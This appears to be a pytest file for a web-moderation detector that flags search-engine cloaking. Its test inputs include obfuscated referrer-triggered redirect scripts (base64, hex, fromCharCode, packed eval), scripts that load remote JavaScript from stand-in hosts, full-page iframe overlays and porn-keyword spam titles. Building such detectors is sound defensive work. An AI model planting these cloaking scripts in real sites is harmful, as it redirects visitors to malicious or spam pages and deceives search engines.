from __future__ import annotations

import base64
import time
from dataclasses import replace

import pytest

from moderation.article import FieldName
from moderation.detectors import Resources
from moderation.detectors.cloaking import CloakingDetector
from moderation.normalize import Document
from moderation.readers import read_html

from .conftest import Detect

URL = "https://www.museum.example.com/a/1.html"
JUMP = "var r=document.referrer;if(r.indexOf('baidu')>-1){location.href='http://x.example/'}"
CODES = ",".join(str(ord(character)) for character in JUMP)
HEX = "".join(f"\\x{ord(character):02x}" for character in JUMP)
BASE64 = base64.b64encode(JUMP.encode()).decode()
TURNED = JUMP[::-1].replace("'", "\\'")
TEXT = "<p>" + "展厅每天上午九点开门，下午五点停止入场，周一闭馆。" * 12 + "</p>"
LINE = "国产精品无码视频在线观看_久久热精品"
ESCAPED = "".join(f"\\u{ord(character):04x}" for character in LINE)
NUMERIC = "".join(f"&#{ord(character)};" for character in LINE)
PACKED = (
    "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}"
    "('0(/1/.2(3.4)){5.6=\\'7://8.9/\\'}',10,10,'if|baidu|test|document|referrer|location|href|http|x|example'.split('|'),0,{}))"
)
FRAME = "position:fixed;left:0;top:0;width:100%;height:100%"

FIRES = [
    (f"<script>{JUMP}</script>", "cloaking.referrer_script"),
    (f"<pre><!-- --></pre><SCRIPT type=text/javascript>{JUMP}</SCRIPT >", "cloaking.referrer_script"),
    (f"<script>eval(String.fromCharCode({CODES}))</script>", "cloaking.referrer_script"),
    (f"<script>eval(String['fromChar'+'Code'].apply(null,[{CODES}]))</script>", "cloaking.referrer_script"),
    (f"<script>window['eval']('{HEX}')</script>", "cloaking.referrer_script"),
    (f"<script>eval(atob('{BASE64}'))</script>", "cloaking.referrer_script"),
    (f"<script>eval(decodeIt('{BASE64[:30]}'+'{BASE64[30:]}'))</script>", "cloaking.referrer_script"),
    (f"<script>eval('{TURNED}'.split('').reverse().join(''))</script>", "cloaking.referrer_script"),
    (f"<script>{PACKED}</script>", "cloaking.referrer_script"),
    (f"<script>var t='';setTimeout(\"{JUMP}\",20)</script>", "cloaking.referrer_script"),
    (
        "<script>/baidu|sogou/.test(document['ref'+'errer'])&&(top.location='//x.example')</script>",
        "cloaking.referrer_script",
    ),
    (
        "<script>if(/sm\\.cn|baidu/.test(document.referrer))document.writeln('<script src=\"//j.x.example/a.js\"><\\/script>')</script>",
        "cloaking.referrer_script",
    ),
    (
        "<script>var e=['baidu','so.com'],hit;e.forEach(function(n){if(document.referrer.indexOf(n)>0)hit=1});"
        "if(hit){var s=document.createElement('script');s.src='http://j.x.example/a.js';document.body.appendChild(s)}</script>",
        "cloaking.referrer_script",
    ),
    (
        "<script>function come(){return /google|baidu/i.test(document.referrer)}\nfunction go(u){location.replace(u)}\n"
        "if(come()) go('https://x.example')</script>",
        "cloaking.referrer_script",
    ),
    (
        "<script>(function(){if(!/baidu/.test(document.referrer)) return;location.href='https://x.example'})()</script>",
        "cloaking.referrer_script",
    ),
    (f'<body onload="{JUMP}">', "cloaking.referrer_script"),
    (
        "<script>if(!/Baiduspider|360Spider/i.test(navigator.userAgent)){document.write('<iframe src=//x.example>')}</script>",
        "cloaking.crawler_script",
    ),
    (
        "<script>var a=navigator.userAgent;if(a.match(/bytespider|googlebot/i)){}else{location='//x.example'}</script>",
        "cloaking.crawler_script",
    ),
    (
        "<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href='https://x.example/app'}</script>",
        "cloaking.device_redirect",
    ),
    ("<script>location.href='https://x.example/'</script>", "cloaking.script_redirect"),
    (
        "<script>setTimeout(function(){window.location.replace('http:'+'//x.example')},100)</script>",
        "cloaking.script_redirect",
    ),
    (f"<script>document.title='{ESCAPED}'</script>", "cloaking.script_title"),
    (f"<iframe src='//x.example/' style='{FRAME}'></iframe>", "cloaking.frame_over_page"),
    (f'<div style="{FRAME}"><iframe src="//x.example/" width="100%" height="100%"></iframe></div>', "cloaking.frame_over_page"),
    ('<meta http-equiv="refresh" content="0;url=http://other.example/">', "cloaking.meta_refresh"),
    ("<META content='1; URL=//other.example/a' HTTP-EQUIV=Refresh>", "cloaking.meta_refresh"),
    (f'<meta name="keywords" content="{LINE}">', "cloaking.meta_disagrees"),
    (f'<meta name="description" content="{NUMERIC}">', "cloaking.meta_disagrees"),
    (f'<meta property="og:title" content="{LINE}">', "cloaking.structured_data"),
    (
        f'<script type="application/ld+json">{{"@type":"Movie","name":"{ESCAPED}"}}</script>',
        "cloaking.structured_data",
    ),
    ("<x7k2q></x7k2q><m9z3w></m9z3w><x7k2q></x7k2q>", "cloaking.random_tags"),
    ("<tt id=q7x2k9></tt><sup id=q7x2k9></sup><kbd id=q7x2k9></kbd>" * 2, "cloaking.random_tags"),
]  # fmt: skip
SILENT = [
    "<script>new Image().src='//stat.example/c.gif?r='+encodeURIComponent(document.referrer)+'&from=baidu'</script>",
    "<script>var from=document.referrer;report(from)</script>",
    "<script>if(/iphone|android/i.test(navigator.userAgent)){location.href='/m/'}</script>",
    "<script>if(/Mobile/.test(navigator.userAgent)){location.href='https://m.example.com/a/1.html'}</script>",
    "<script>if(/iPhone/.test(navigator.userAgent)){location.href='https://apps.apple.com/app/id1'}</script>",
    "<script>var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js?1';</script>",
    "<script>console.log(document.referrer.indexOf('baidu'))</script>",
    "<script>var a=document.referrer\nsend(a)\ndocument.getElementById('buy').onclick=function(){location.href='https://shop.example/'}</script>",
    "<script>function toShop(){window.open('https://shop.example/')}</script>",
    "<script>setTimeout(function(){location.href='https://new.example/'},8000)</script>",
    "<script>if(/baidu/.test(document.referrer)){var w=/wd=([^&]+)/.exec(document.referrer);mark.innerHTML='<b>'+w[1]+'</b>'}</script>",
    "<script>document.cookie='utm='+(document.referrer.indexOf('google')>-1?'google':'direct')</script>",
    "<script>if(document.referrer.indexOf(location.host)<0){location.href='/'}</script>",
    "<script>if(navigator.language.indexOf('en')==0)location.href='/en/'</script>",
    "<script>if(top!=self)top.location=self.location</script>",
    "<script>if(!/spider|bot/i.test(navigator.userAgent)){var s=document.createElement('script');s.src='https://www.google-analytics.com/a.js';document.body.appendChild(s)}</script>",
    "<script>document.addEventListener('visibilitychange',function(){document.title='\\u522b\\u8d70\\u5440'})</script>",
    f"<script type='text/template'>{JUMP}</script>",
    f"<!-- <script>{JUMP}</script> -->",
    f"<template><script>{JUMP}</script></template>",
    f"<textarea><script>{JUMP}</script></textarea>",
    f"<noscript><script>{JUMP}</script></noscript>",
    f"<script>{JUMP}",
    '<meta http-equiv="refresh" content="0;url=/new-place.html">',
    '<meta http-equiv="refresh" content="0;url=https://museum.example.com/b">',
    '<meta http-equiv="refresh" content="300;url=http://other.example/">',
    '<meta http-equiv="X-UA-Compatible" content="IE=edge">',
    f"<pre>&lt;script&gt;{JUMP}&lt;/script&gt;</pre>",
    "<script>eval(String.fromCharCode(99999999,1,2,3,4,5,6,7,8))</script>",
    "<script>atob('!!!!not base64!!!!aaaaaaaaaaaaaaaaaa')</script>",
    "<iframe src='//player.example/v' width='100%' height='100%'></iframe>",
    "<iframe src='//chat.example/k' style='position:fixed;right:0;bottom:0;width:300px;height:400px'></iframe>",
    '<meta name="keywords" content="博物馆,展厅,开门时间">',
    '<meta name="description" content="青铜器特展将在十月开幕，观众可提前三天预约。">',
    '<meta property="og:title" content="开馆"><meta property="og:image" content="https://x.example/a.jpg">',
    '<script type="application/ld+json">{"@type":"Article","headline":"开馆","description":"博物馆参观时间"}</script>',
    "<my-tab></my-tab><h2></h2><h3></h3><h4></h4><h5></h5>",
    "<span id=tab1></span><span id=tab2></span><i id=top></i>",
]  # fmt: skip


@pytest.mark.parametrize(("html", "name"), FIRES)
def test_must_fire(detect: Detect, html: str, name: str) -> None:
    signals = detect(CloakingDetector, html=f"<title>开馆</title>{html}{TEXT}", url=URL)
    aside = {f"cloaking.{category}" for category in ("explicit", "gambling", "fraud", "illicit_ad")}
    assert set(signals) - aside == {name}
    assert signals[name].strength >= 0.6
    assert signals[name].evidence


@pytest.mark.parametrize("html", SILENT)
def test_must_not_fire(detect: Detect, html: str) -> None:
    assert not detect(CloakingDetector, html=f"<title>开馆</title>{TEXT}{html}", url=URL)


def test_a_text_that_quotes_a_script_is_a_text(detect: Detect) -> None:
    assert not detect(CloakingDetector, title="教程", body=f"<script>{JUMP}</script>")


def test_a_script_in_pre_may_have_been_meant_to_be_read(detect: Detect) -> None:
    html = f"<title>教程</title>{TEXT}<pre><script>{JUMP}</script></pre>"
    assert detect(CloakingDetector, html=html)["cloaking.referrer_script"].strength <= 0.5


def test_a_moving_site_is_doubted_less_than_an_abusive_title(detect: Detect) -> None:
    refresh = '<meta http-equiv="refresh" content="0;url=http://other.example/">'
    moved = detect(CloakingDetector, html=f"<title>开馆</title>{refresh}{TEXT}")["cloaking.meta_refresh"]
    lure = detect(CloakingDetector, html=f"<title>{LINE}</title>{refresh}{TEXT}")["cloaking.meta_refresh"]
    assert moved.strength < 0.9 < lure.strength


@pytest.mark.parametrize(
    ("title", "low", "high"),
    [
        (NUMERIC, 0.9, 1.0),
        ("".join(f"&#x{ord(character):x};" for character in "博物馆参观须知"), 0.0, 0.5),
        ("博&#29289;馆&#21442;观&#39035;知", 0.6, 0.9),
        ("&#37027;&#21494;&#21746;的展览", 0.0, 0.5),
    ],
)
def test_character_codes_in_the_title(detect: Detect, title: str, low: float, high: float) -> None:
    signal = detect(CloakingDetector, html=f"<title>{title}</title>{TEXT}")["cloaking.escaped_meta"]
    assert low <= signal.strength <= high


@pytest.mark.parametrize("title", ["开馆 &#8211; 博物馆", "王&#21894;的画", "AT&amp;T &#169; 开馆"])
def test_references_that_writing_needs(detect: Detect, title: str) -> None:
    assert not detect(CloakingDetector, html=f"<title>{title}</title>{TEXT}")


def test_evidence_names_the_element(resources: Resources) -> None:
    page = f"<html><head><title>开馆</title></head><body>{TEXT}<div><script>var a=1</script><script>{JUMP}</script></div></body></html>"
    article = read_html(page, identifier="x")
    (signal,) = CloakingDetector(resources).detect(Document(article))
    (evidence,) = signal.evidence
    assert evidence.field.name is FieldName.SOURCE
    assert evidence.selector == "body > div:nth-of-type(1) > script:nth-of-type(2)"
    assert (evidence.quote, evidence.removable) == (JUMP, True)


def test_a_description_that_warns_over_a_page_that_warns(detect: Detect) -> None:
    meta = '<meta name="description" content="黑户秒下款、代开发票可验、百家乐注册送彩金，{}">'
    warning = "<p>民警提示，谨防虚假贷款。</p><p>警方抓获骗子七人，涉案三百万元，被骗请举报。</p><p>公安机关严禁买卖发票。</p>"
    honest = f"<title>九月警情通报</title>{meta.format('这些话术都是骗局。')}{warning}"
    assert "cloaking.meta_disagrees" not in detect(CloakingDetector, html=honest)
    for html in (
        f"<title>九月警情通报</title>{meta.format('来电咨询')}{warning}",
        f"<title>开馆</title>{meta.format('谨防骗局认准本站')}{TEXT}",
    ):
        assert "cloaking.meta_disagrees" in detect(CloakingDetector, html=html)


def test_a_description_that_the_page_holds_is_no_secret(detect: Detect) -> None:
    html = f'<title>开馆</title><meta name="description" content="{LINE}"><p>{LINE}</p>'
    assert not detect(CloakingDetector, html=html)


@pytest.mark.parametrize(
    "page",
    [
        "<script>" * 100_000,
        "<script " * 100_000,
        "<script>" + "var a='x';" * 500_000 + "</script>",
        f"<script>{JUMP}{'x' * 5_000_000}</script>",
        "<script>eval(atob('" + "QUJD" * 1_000_000 + "'))</script>",
        "<script>eval(" + "(" * 200_000 + "</script>",
        "<meta property=og:title content=x>" * 50_000,
        "<!--" * 300_000,
        "<x1y2></x1y2>" * 50_000,
    ],
    ids=lambda page: page[:24],
)
def test_cost_is_linear(resources: Resources, page: str) -> None:
    detector = CloakingDetector(resources)
    article = read_html("<title>开馆</title><p>正文</p>", identifier="x")
    document = Document(replace(article, source=page))
    started = time.process_time()
    detector.detect(document)
    assert time.process_time() - started < 2.0
